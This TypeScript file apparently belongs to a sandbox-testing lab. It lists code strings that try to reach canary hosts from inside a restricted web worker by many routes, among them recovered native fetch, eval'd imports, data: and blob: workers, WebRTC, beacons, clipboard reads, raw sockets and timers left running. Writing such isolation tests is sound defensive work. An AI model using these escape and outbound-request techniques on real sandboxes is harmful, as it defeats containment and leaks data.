import type { Attack } from '../lab/attack.ts';

/** Ways out of a worker besides the tool's own `fetch`. Each attack tries several. */
export const NETWORK_ATTACKS: readonly Attack[] = [
  {
    name: 'the browser’s own fetch, found behind the tool’s',
    group: 'network',
    code: `
      const natives = [
        lab.native('fetch'),
        (await lab.within(import('data:text/javascript,export default self.fetch'), 500).catch(() => ({}))).default,
      ].filter(
        (found) => typeof found === 'function' && Function.prototype.toString.call(found).includes('[native code]'),
      );
      for (const [index, found] of natives.entries()) {
        lab.attempt(
          'native ' + index,
          async () => (await found.call(self, params.http + '/' + params.token + '/native')).status,
        );
        lab.attempt(
          'native no-cors ' + index,
          async () =>
            (
              await found.call(self, params.http + '/' + params.token + '/no-cors', {
                mode: 'no-cors',
                keepalive: true,
              })
            ).type,
        );
        lab.attempt(
          'native by name ' + index,
          async () => (await found.call(self, params.named + '/' + params.token)).status,
        );
        lab.attempt(
          'compileStreaming ' + index,
          async () =>
            (await WebAssembly.compileStreaming(found.call(self, params.http + '/' + params.token + '/wasm'))) &&
            'compiled',
        );
      }`,
  },
  {
    name: 'XMLHttpRequest, WebSocket, EventSource, WebTransport in the tool',
    group: 'network',
    code: `
      const make = (word) => lab.native(word) ?? self[word];
      lab.attempt('xhr sync', () => {
        const x = new (make('XMLHttpRequest'))();
        x.open('GET', params.http + '/' + params.token + '/xhr', false);
        x.send();
        return x.status;
      });
      lab.attempt(
        'xhr name',
        () =>
          new Promise((resolve) => {
            const x = new (make('XMLHttpRequest'))();
            x.open('POST', params.named + '/' + params.token);
            x.onload = () => resolve(x.status);
            x.send('data');
          }),
      );
      lab.attempt(
        'websocket',
        () =>
          new Promise((resolve) => {
            const s = new (make('WebSocket'))(params.ws + '/' + params.token);
            s.onopen = () => resolve('open');
          }),
      );
      lab.attempt('websocket stream', async () => {
        await new (make('WebSocketStream'))(params.ws + '/' + params.token + '/stream').opened;
        return 'open';
      });
      lab.attempt(
        'event source',
        () =>
          new Promise((resolve) => {
            const s = new (make('EventSource'))(params.http + '/' + params.token + '/events');
            s.onopen = () => resolve('open');
          }),
      );
      lab.attempt('web transport', async () => {
        await new (make('WebTransport'))(params.http.replace('http:', 'https:') + '/' + params.token).ready;
        return 'ready';
      });`,
  },
  {
    name: 'scripts from the network: importScripts, import(), eval, Function, timers with text',
    group: 'network',
    code: `
      const url = params.http + '/' + params.token;
      lab.attempt('importScripts', () => {
        (lab.native('importScripts') ?? self.importScripts)(url + '/a.js');
        return self.__canaryScript;
      });
      lab.attempt('import', async () => (await import(url + '/b.js')).default);
      lab.attempt('import by name', async () => (await import(params.named + '/' + params.token + '.js')).default);
      lab.attempt('eval import', async () => (await eval('import(' + JSON.stringify(url + '/c.js') + ')')).default);
      lab.attempt(
        'Function import',
        async () => (await new Function('u', 'return import(u)')(url + '/d.js')).default,
      );
      lab.attempt(
        'async generator',
        async () => (await (async () => {}).constructor('u', 'return import(u)')(url + '/e.js')).default,
      );
      lab.attempt('timer text', () => {
        lab.later('import(' + JSON.stringify(url + '/f.js') + ')', 0);
      });
      lab.attempt(
        'import with type',
        async () => (await import(url + '/g.json', { with: { type: 'json' } })).default,
      );
      lab.attempt('css module', async () => (await import(url + '/h.css', { with: { type: 'css' } })).default);
      lab.attempt(
        'blob module',
        async () =>
          (
            await import(
              URL.createObjectURL(
                new Blob(['export { default } from ' + JSON.stringify(url + '/i.js')], { type: 'text/javascript' }),
              )
            )
          ).default,
      );
      lab.attempt(
        'data module',
        async () =>
          (await import('data:text/javascript,export { default } from ' + JSON.stringify(url + '/j.js'))).default,
      );
      lab.attempt('app script', async () => Object.keys(await import(params.app + '/')).length + 1);`,
  },
  ...['classic', 'module'].map((type): Attack => ({
    name: `a ${type} worker of the tool’s own, with nothing taken away`,
    group: 'network',
    code: `lab.child('blob', ${JSON.stringify(subWorkerSource())}, { type: '${type}', params });`,
  })),
  {
    name: 'workers from data:, the network and the app; nested workers; SharedWorker',
    group: 'network',
    code: `
      const url = params.http + '/' + params.token;
      const heard = (worker) =>
        new Promise((resolve, reject) => {
          worker.onmessage = (event) => resolve(event.data);
          worker.onerror = (event) => {
            event.preventDefault();
            reject(new Error('did not load'));
          };
        });
      lab.attempt('network worker', () => heard(new Worker(url + '/w.js')));
      lab.attempt('network module worker', () => heard(new Worker(url + '/m.js', { type: 'module' })));
      lab.attempt('app worker', () => heard(new Worker(params.app + '/')));
      lab.attempt('shared worker', () => {
        const w = new SharedWorker(
          URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(url + '/shared') + ')'])),
        );
        return new Promise((resolve) => {
          w.port.onmessage = resolve;
        });
      });
      lab.attempt('data worker', () =>
        heard(
          new Worker(
            'data:text/javascript,fetch(' +
              JSON.stringify(url + '/data') +
              ').then((r) => postMessage(r.status), () => {})',
          ),
        ),
      );
      lab.attempt('file system worker', () => heard(new Worker('filesystem:' + params.app + '/x.js')));
      lab.child(
        'nested',
        "await lab.child(\\"inner\\", \\"lab.attempt('fetch', async () => (await fetch(params.http + '/' + params.token + '/nested')).status); lab.attempt('import', () => import(params.http + '/' + params.token + '/nested.js'));\\", { params, ms: 900 });",
        { params, ms: 1800 },
      );
      lab.child(
        'shared from worker',
        'lab.attempt("shared", () => { const w = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = (e) => e.ports[0].postMessage(1)"]))); return new Promise((resolve) => { w.port.onmessage = () => resolve("heard"); }); });',
        { params },
      );`,
  },
  {
    name: 'WebRTC: STUN over UDP, host candidates, data channels',
    group: 'network',
    code: `
const source = \`lab.attempt('stun', async () => {
        const Peer = self.RTCPeerConnection ?? self.webkitRTCPeerConnection;
        const peer = new Peer({
          iceServers: [
            { urls: 'stun:127.0.0.1:' + params.udpPort },
            { urls: 'stun:' + params.host + ':' + params.udpPort },
            { urls: 'turn:' + params.tcp.slice(7) + '?transport=tcp', username: 'a', credential: 'b' },
          ],
        });
        peer.createDataChannel('x');
        const candidates = [];
        peer.onicecandidate = (event) => event.candidate && candidates.push(event.candidate.candidate);
        await peer.setLocalDescription(await peer.createOffer());
        await new Promise((resolve) => setTimeout(resolve, 300));
        return candidates;
      });\`;
await (0, eval)('(async (params) => {' + source + '})')(params);
lab.child('worker', source, { params });`,
  },
  {
    name: 'documents: frames, windows, navigation, forms, downloads, dialogs, prefetch, clipboard, notifications',
    group: 'network',
    code: `
const url = params.http + '/' + params.token;
const source = \`
        const url = params.http + '/' + params.token;
        for (const word of [
          'parent',
          'top',
          'opener',
          'frames',
          'frameElement',
          'document',
          'window',
          'localStorage$',
        ])
          lab.attempt(word, () => {
            const found = self[word.replace('$', '')];
            return found && found !== self && typeof found.getItem !== 'function' && word;
          });
        lab.attempt('parent post', () => { self.parent.postMessage('attack', '*'); });
        lab.attempt('navigate', () => { self.location.href = url + '/nav'; });
        lab.attempt('location assign', () => { self.location.assign(url + '/assign'); });
        lab.attempt('open', () => self.open(url + '/popup') && 'opened');
        lab.attempt('clients', async () => (await self.clients.openWindow(url + '/client')) && 'opened');
        for (const word of ['alert', 'confirm', 'prompt', 'print'])
          lab.attempt(word, () => {
            self[word]('attack');
            return word;
          });
        lab.attempt('prefetch', () => {
          const link = document.createElement('link');
          link.rel = 'dns-prefetch';
          link.href = params.named;
          document.head.append(link);
          return 'linked';
        });
        lab.attempt('form', () => {
          const form = document.createElement('form');
          form.action = url + '/form';
          document.body.append(form);
          form.submit();
          return 'sent';
        });
        lab.attempt('download', () => {
          const a = document.createElement('a');
          a.href = url + '/file';
          a.download = 'x';
          a.click();
          return 'clicked';
        });
        lab.attempt('clipboard', async () => (await navigator.clipboard.readText()) + 'read');
        lab.attempt('clipboard write', async () => {
          await navigator.clipboard.writeText('attack');
          return 'written';
        });
        lab.attempt(
          'notification',
          () =>
            new Promise((resolve) => {
              new Notification('attack').onshow = () => resolve('shown');
            }),
        );
        lab.attempt('beacon', () => navigator.sendBeacon(url + '/beacon', 'data'));
        lab.attempt('ping', () => navigator.sendBeacon.call(navigator, params.named + '/ping'));
        lab.attempt(
          'service worker',
          async () => (await navigator.serviceWorker.register(URL.createObjectURL(new Blob([''])))) && 'registered',
        );
        lab.attempt('usb', async () => (await navigator.usb.getDevices()).length > 0);
        lab.attempt('print', () => self.print());
      \`;
await (0, eval)('(async (params) => {' + source + '})')(params);
lab.child('worker', source, { params });`,
  },
  {
    name: 'CSS and fonts: FontFace, canvas filters, images, source maps, caches',
    group: 'network',
    code: `
const source = \`
        const url = params.http + '/' + params.token;
        lab.attempt('font', async () => (await new FontFace('x', 'url(' + url + '/font.woff2)').load()).status);
        lab.attempt('font by name', async () => {
          const face = new FontFace('y', 'url(' + params.named + '/font.woff2)');
          self.fonts.add(face);
          await self.fonts.load('12px y');
          return face.status === 'loaded' && face.status;
        });
        lab.attempt('canvas', async () => {
          const c = new OffscreenCanvas(9, 9).getContext('2d');
          c.filter = 'url(' + url + '/filter.svg#a)';
          c.font = '12px y';
          c.fillText('x', 0, 9);
          c.drawImage(
            await createImageBitmap(
              new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><image href="' + url + '/svg.png"/></svg>'], {
                type: 'image/svg+xml',
              }),
            ),
            0,
            0,
          );
        });
        lab.attempt('cache add', async () => { await (await caches.open('x')).add(url + '/cached'); return 'cached'; });
        lab.attempt(
          'image decoder',
          async () => new ImageDecoder({ data: (await fetch(url + '/image')).body, type: 'image/png' }) && 'decoder',
        );
        lab.attempt('source map', () => { (0, eval)('1;//# sourceMappingURL=' + url + '/map'); });
        lab.attempt('report', () => { new ReportingObserver(() => {}).observe(); });
        lab.attempt('request object', async () => (await new Request(url + '/request').text()) );
        lab.attempt('worklet', async () => { await new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(url + '/worklet.js'); return 'added'; });
      \`;
const own = source.replace(/await fetch\\(/g, 'await (lab.native("fetch") ?? fetch)(');
await (0, eval)(
  '(async (params) => {' +
    own.replace("lab.attempt('image decoder'", "if (0) lab.attempt('image decoder'") +
    '})',
)(params);
lab.child('worker', source, { params });`,
  },
  {
    name: 'what is left behind: timers, workers and requests after the end',
    group: 'network',
    code: `
      const url = params.http + '/' + params.token;
      new Worker(
        URL.createObjectURL(
          new Blob([
            'setInterval(() => { fetch(' +
              JSON.stringify(url + '/left') +
              ').catch(() => {}); try { importScripts(' +
              JSON.stringify(url + '/left.js') +
              '); } catch {} }, 50)',
          ]),
        ),
      );
      setInterval(() => {
        import(url + '/late.js').catch(() => {});
      }, 50);
      addEventListener('unload', () => import(url + '/unload.js'));
      lab.attempt('wait', () => new Promise((resolve) => setTimeout(resolve, 300)));`,
  },
];

/** Every way out, in a worker with unmodified globals. */
function subWorkerSource(): string {
  return `
    const url = params.http + '/' + params.token;
    lab.attempt('fetch', async () => (await fetch(url + '/fetch')).status);
    lab.attempt(
      'fetch opaque',
      async () =>
        (await fetch(url + '/opaque', { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })).type,
    );
    lab.attempt('fetch name', async () => (await fetch(params.named + '/' + params.token)).status);
    lab.attempt('fetch app', async () => (await fetch(params.app + '/')).status);
    lab.attempt('fetch tcp', async () => (await fetch(params.tcp + '/' + params.token)).status);
    lab.attempt('xhr', () => {
      const x = new XMLHttpRequest();
      x.open('GET', url + '/xhr', false);
      x.send();
      return x.status;
    });
    lab.attempt(
      'websocket',
      () =>
        new Promise((resolve) => {
          new WebSocket(params.ws + '/' + params.token).onopen = () => resolve('open');
        }),
    );
    lab.attempt(
      'event source',
      () =>
        new Promise((resolve) => {
          new EventSource(url + '/events').onopen = () => resolve('open');
        }),
    );
    lab.attempt('web transport', async () => {
      await new WebTransport('https://' + params.host + ':' + params.udpPort).ready;
      return 'ready';
    });
    lab.attempt('importScripts', () => {
      importScripts(url + '/import.js');
      return self.__canaryScript;
    });
    lab.attempt('importScripts data', () => {
      importScripts('data:text/javascript,fetch(' + JSON.stringify(url + '/from-data') + ')');
    });
    lab.attempt('import', async () => (await import(url + '/module.js')).default);
    lab.attempt('wasm', async () => (await WebAssembly.instantiateStreaming(fetch(url + '/wasm'))) && 'wasm');
    lab.attempt(
      'worker',
      () =>
        new Promise((resolve, reject) => {
          const w = new Worker(url + '/worker.js');
          w.onmessage = resolve;
          w.onerror = (event) => {
            event.preventDefault();
            reject(new Error('no'));
          };
        }),
    );
    lab.attempt('location', () => {
      self.location = url + '/location';
    });
    lab.attempt(
      'background fetch',
      async () => (await self.registration.backgroundFetch.fetch('x', [url + '/background'])) && 'fetched',
    );
    lab.attempt('sockets', async () => {
      const s = new TCPSocket('127.0.0.1', Number(params.tcp.split(':')[2]));
      await s.opened;
      return 'tcp';
    });
    lab.attempt('udp', async () => {
      const s = new UDPSocket({ remoteAddress: '127.0.0.1', remotePort: params.udpPort });
      await s.opened;
      return 'udp';
    });`;
}
